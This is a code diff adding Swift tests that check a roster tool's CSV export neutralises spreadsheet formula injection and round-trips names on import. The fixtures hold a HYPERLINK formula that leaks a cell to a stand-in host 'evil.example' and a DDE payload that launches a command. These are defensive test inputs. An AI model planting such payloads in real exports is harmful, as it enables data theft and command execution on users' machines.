@@ -111,3 +111,75 @@ struct HostileDataTests {
         #expect(list.contains { $0["id"] as? String == "thea" }, "still on the board")
     }
 }
+
+/// Issue 28, finding 8: CSV export must not hand a spreadsheet a live formula (CWE-1236).
+@Suite("CSV formulas")
+struct CSVFormulaTests {
+    static let evilName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikk\") Hansen"
+    static let evilWarning = "+cmd|' /C calc'!A0"
+
+    /// Every cell of a `;`- or `,`-separated CSV (quoted fields may hold separators and quotes).
+    func cells(_ csv: String, separator: Unicode.Scalar) -> [String] {
+        var out: [String] = [], cell = "", quoted = false, inQuotes = false
+        var chars = Array(csv.unicodeScalars)[...]
+        while let c = chars.popFirst() {
+            if inQuotes {
+                if c == "\"" {
+                    if chars.first == "\"" { cell.unicodeScalars.append("\""); chars.removeFirst() } else { inQuotes = false }
+                } else { cell.unicodeScalars.append(c) }
+            } else if c == "\"" && cell.isEmpty && !quoted {
+                inQuotes = true; quoted = true
+            } else if c == separator || c == "\r" {
+                out.append(cell); cell = ""; quoted = false
+            } else if c == "\n" {
+                cell = ""; quoted = false
+            } else { cell.unicodeScalars.append(c) }
+        }
+        return out
+    }
+
+    @Test("a name, warning and label that start a formula are exported as text", arguments: ["nb", "en"])
+    func neutralised(_ lang: String) throws {
+        let s = Scratch()
+        try demoTeam(s)
+        let add = try CLI.run(["add", "--name", Self.evilName, "--born", "2010-01-01", "--data", s.data])
+        #expect(add.status == 0, "\(add)")
+        let id = add.out.trimmingCharacters(in: .whitespacesAndNewlines)
+        #expect(try CLI.run(["set", id, "warning", Self.evilWarning, "--data", s.data]).status == 0)
+        #expect(try CLI.run(["--data", s.data, "set", "sofie", "warning", "--", "-2+3"]).status == 0)
+        #expect(try CLI.run(["set", "noah", "warning", "@SUM(1,2)", "--data", s.data]).status == 0)
+        for names in [true, false] {
+            let r = try CLI.run(["export", "--format", "csv", "--data", s.data, "--lang", lang] + (names ? ["--names"] : []))
+            #expect(r.status == 0, "\(r)")
+            let all = cells(r.out, separator: lang == "nb" ? ";" : ",")
+            #expect(all.count > 100)
+            let live = all.filter { $0.first.map { "=+-@\t\r".contains($0) } ?? false }
+            #expect(live.isEmpty, "cells a spreadsheet would run: \(live)")
+            #expect(all.contains("'" + Self.evilWarning), "the text is kept, behind a quote")
+            if names { #expect(all.contains("'" + Self.evilName)) }
+        }
+    }
+
+    @Test("an export with --names imports again with the names as they were")
+    func roundTrip() throws {
+        let s = Scratch()
+        try demoTeam(s)
+        let add = try CLI.run(["add", "--name", Self.evilName, "--born", "2010-01-01", "--data", s.data])
+        let id = add.out.trimmingCharacters(in: .whitespacesAndNewlines)
+        #expect(try CLI.run(["set", id, "warning", Self.evilWarning, "--data", s.data]).status == 0)
+        let r = try CLI.run(["export", "--format", "csv", "--names", "--data", s.data])
+        let file = try s.write("board.csv", r.out)
+        let other = Scratch()
+        try emptyTeam(other)
+        let staff = try CLI.run(["staff", "list", "--json", "--data", s.data]).jsonArray()
+        for m in staff where m["role"] as? String != "leader" {
+            _ = try CLI.run(["staff", "add", "--name", m["name"] as! String, "--initials", m["initials"] as! String,
+                             "--role", m["role"] as! String, "--data", other.data])
+        }
+        let imp = try CLI.run(["import", file, "--data", other.data, "--lang", "en"])
+        #expect(imp.status == 0, "\(imp)")
+        let listed = try listJSON(other)
+        let y = try #require(listed.first { ($0["name"] as? String) == Self.evilName }, "\(listed.map { $0["name"] ?? "" })")
+        #expect(y["warning"] as? String == Self.evilWarning)
+    }
+}
